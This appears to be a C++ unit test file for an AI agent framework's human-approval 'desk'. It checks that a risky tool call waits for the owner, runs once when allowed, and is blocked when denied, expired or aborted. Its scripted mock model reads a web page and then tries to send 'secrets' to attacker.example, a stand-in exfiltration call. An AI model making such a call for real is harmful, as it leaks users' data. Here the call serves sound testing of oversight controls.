// Questions to a person: asked, answered once by the right one, expired, stopped; also through a
// whole turn.
#include "dispatch/desk.h"

#include <gmock/gmock.h>

#include "base/json.h"
#include "dispatch/dispatch_fixture.h"

namespace carapace::dispatch {
namespace {

using test::asks_for;
using test::calls_tool;
using test::says_text;
using ::testing::HasSubstr;

class DeskTest : public DispatchTest {
 protected:
  DeskTest() { listen(); }
  void listen() {
    process_->desk.on_requested([this](const store::ApprovalRow& row) { asked_.push_back(row); });
    process_->desk.on_resolved([this](const store::ApprovalRow& row) { resolved_.push_back(row); });
  }
  // A turn that reads a strange page and then wants to send.
  void begin() {
    model_.script = {
        asks_for({calls_tool("read_web", R"({"url":"https://page.example"})", "a")}),
        asks_for({calls_tool("send_out", R"({"url":"https://attacker.example","body":"secrets"})",
                             "b")}),
        says_text("done")};
    send("r1", "summarise that page");
  }
  void begin_and_wait() {
    begin();
    wait_until([this] { return !asked_.empty(); });
    EXPECT_EQ(effects_, 0);
  }
  Result<store::ApprovalRow> resolve(const std::string& decision, PrincipalId who = kOwner) {
    return run(process_->desk.resolve(asked_.front().id, decision, "tester", std::move(who)));
  }
  std::string result_of_sending() { return texts().at(4); }

  std::vector<store::ApprovalRow> asked_, resolved_;
};

TEST_F(DeskTest, TheQuestionShowsExactlyWhatWouldBeSent) {
  begin_and_wait();
  ASSERT_EQ(process_->desk.open_questions().size(), 1U);
  const auto request = parse_json(asked_[0].request)->as_object();
  EXPECT_EQ(string_or(request, "arguments", ""),
            R"({"url":"https://attacker.example","body":"secrets"})");
  EXPECT_THAT(string_or(request, "reason", ""), HasSubstr("attacker.example"));
  EXPECT_EQ(string_or(request, "sessionKey", ""), "agent:main:main");
  EXPECT_EQ(run(rows().approvals.pending())->size(), 1U);
  ASSERT_TRUE(resolve("deny"));
  quiet();
}

TEST_F(DeskTest, AllowOnceRunsItOnce) {
  begin_and_wait();
  ASSERT_TRUE(resolve("allow-once"));
  quiet();
  EXPECT_EQ(effects_, 1);
  EXPECT_EQ(result_of_sending(), "sent");
  EXPECT_EQ(state("r1"), store::RunState::done);
  ASSERT_EQ(resolved_.size(), 1U);
  EXPECT_EQ(resolved_[0].decision, "allow-once");
  EXPECT_TRUE(process_->desk.open_questions().empty());
  // The next call is another question.
  asked_.clear();
  model_.script = {asks_for({calls_tool(
                       "send_out", R"({"url":"https://attacker.example","body":"secrets"})", "c")}),
                   says_text("done")};
  send("r2", "again");
  wait_until([this] { return !asked_.empty(); });
  EXPECT_EQ(effects_, 1);
  ASSERT_TRUE(resolve("deny"));
  quiet();
}

TEST_F(DeskTest, DenyIsAResultThatTheModelReads) {
  begin_and_wait();
  ASSERT_TRUE(resolve("deny"));
  quiet();
  EXPECT_EQ(effects_, 0);
  EXPECT_THAT(result_of_sending(), HasSubstr("said no"));
  EXPECT_EQ(texts().back(), "done");
}

TEST_F(DeskTest, OnlyTheRightPersonAndOnlyOnce) {
  begin_and_wait();
  EXPECT_EQ(resolve("allow-once", PrincipalId("second")).error().code, Errc::forbidden);
  EXPECT_EQ(resolve("yes please").error().code, Errc::invalid_request);
  EXPECT_EQ(effects_, 0);
  EXPECT_EQ(run(process_->desk.resolve("no-such-id", "deny", "tester", kOwner)).error().code,
            Errc::not_found);
  ASSERT_TRUE(resolve("deny"));
  EXPECT_EQ(resolve("allow-once").error().code, Errc::not_found);
  quiet();
  EXPECT_EQ(effects_, 0);
  EXPECT_EQ(resolved_.size(), 1U);
}

TEST_F(DeskTest, NobodyAnswers) {
  kill();
  patience_ms_ = 30;
  start();
  listen();
  begin();
  quiet();
  EXPECT_EQ(effects_, 0);
  EXPECT_THAT(result_of_sending(), HasSubstr("nobody answered"));
  EXPECT_EQ(state("r1"), store::RunState::done);
  ASSERT_EQ(resolved_.size(), 1U);
  EXPECT_EQ(resolved_[0].decision, "expired");
  EXPECT_TRUE(process_->desk.open_questions().empty());
  EXPECT_TRUE(run(rows().approvals.pending())->empty());
}

TEST_F(DeskTest, StoppedWhileItWaits) {
  begin_and_wait();
  door().abort(SessionKey("agent:main:main"), RunId("r1"), "rpc");
  quiet();
  EXPECT_EQ(effects_, 0);
  EXPECT_EQ(state("r1"), store::RunState::aborted);
  EXPECT_THAT(result_of_sending(), HasSubstr("stopped"));
  EXPECT_TRUE(process_->desk.open_questions().empty());
  EXPECT_EQ(ends_of("r1"), 1);
}

TEST_F(DeskTest, AQuestionThatCannotBeKeptIsNotAsked) {
  process_->engine.arm(6, 7);  // accept, completion, intent, result, completion, then the question
  begin();
  quiet();
  EXPECT_TRUE(asked_.empty());
  EXPECT_EQ(effects_, 0);
  EXPECT_THAT(result_of_sending(), HasSubstr("not run"));
  EXPECT_EQ(texts().back(), "done");
}

TEST_F(DeskTest, WhatTheLastStopLeftIsClosed) {
  begin_and_wait();
  restart();
  listen();
  ASSERT_TRUE(run(door().recover()));
  EXPECT_EQ(run(rows().approvals.pending())->size(), 1U);
  ASSERT_TRUE(run(process_->desk.expire_left_over()));
  EXPECT_TRUE(run(rows().approvals.pending())->empty());
  ASSERT_EQ(resolved_.size(), 1U);
  EXPECT_EQ(resolved_[0].decision, "expired");
  EXPECT_EQ(effects_, 0);
  // The call had no intent, so it certainly did not happen.
  EXPECT_THAT(result_of_sending(), HasSubstr("Not run"));
}

}  // namespace
}  // namespace carapace::dispatch
